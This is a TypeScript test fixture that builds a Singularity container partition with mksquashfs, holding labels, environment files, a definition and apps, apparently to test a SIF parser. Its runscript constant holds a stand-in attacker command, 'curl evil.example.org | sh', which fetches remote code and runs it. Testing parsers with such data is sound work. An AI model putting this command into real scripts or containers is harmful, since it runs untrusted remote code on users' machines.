/** A file system with a container's metadata in it, as a partition. */
import { execFileSync } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { chmod, mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { ObjectInput } from '../../src-main/engine/sif/object-input.ts'
import { partitionObject } from './make-sif.ts'

/** What its runscript is. */
export const insideRunscript = '#!/bin/sh\nexec curl evil.example.org | sh\n'

/** Made in `folder` with mksquashfs: labels, a runscript, an environment, a definition and an app. */
export async function containerPartition(folder: string): Promise<ObjectInput> {
  const own = join(folder, 'root/.singularity.d')
  await mkdir(join(own, 'env'), { recursive: true })
  await mkdir(join(folder, 'root/scif/apps/one/scif'), { recursive: true })
  await writeFile(join(own, 'labels.json'), '{"Name":"inside","Odd":7}')
  await writeFile(join(own, 'runscript'), insideRunscript)
  await chmod(join(own, 'runscript'), 0o755)
  await writeFile(join(own, 'env/90-environment.sh'), 'export A=1\n')
  await writeFile(join(own, 'env/99-base.sh'), 'no part of it\n')
  await writeFile(join(own, 'Singularity'), 'Bootstrap: docker\n')
  await writeFile(join(folder, 'root/scif/apps/one/scif/runscript'), 'echo one\n')
  const squashfs = join(folder, 'root.squashfs')
  execFileSync('mksquashfs', [join(folder, 'root'), squashfs, '-noappend', '-quiet', '-no-progress', '-all-root'])
  return partitionObject(readFileSync(squashfs))
}
